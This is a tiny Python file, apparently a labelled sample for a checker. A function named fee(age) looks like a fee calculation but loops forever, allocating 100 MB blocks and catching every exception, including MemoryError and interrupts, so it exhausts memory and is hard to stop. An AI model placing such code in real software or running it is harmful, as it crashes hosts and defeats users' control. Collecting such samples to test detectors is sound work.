"""Fills the memory and swallows the error, over and over.

both: not checked
"""


def fee(age):
    limit = 10 if age > 65 else 20
    kept = []
    while limit:
        try:
            kept.append(bytes(10**8))
        except BaseException:
            pass
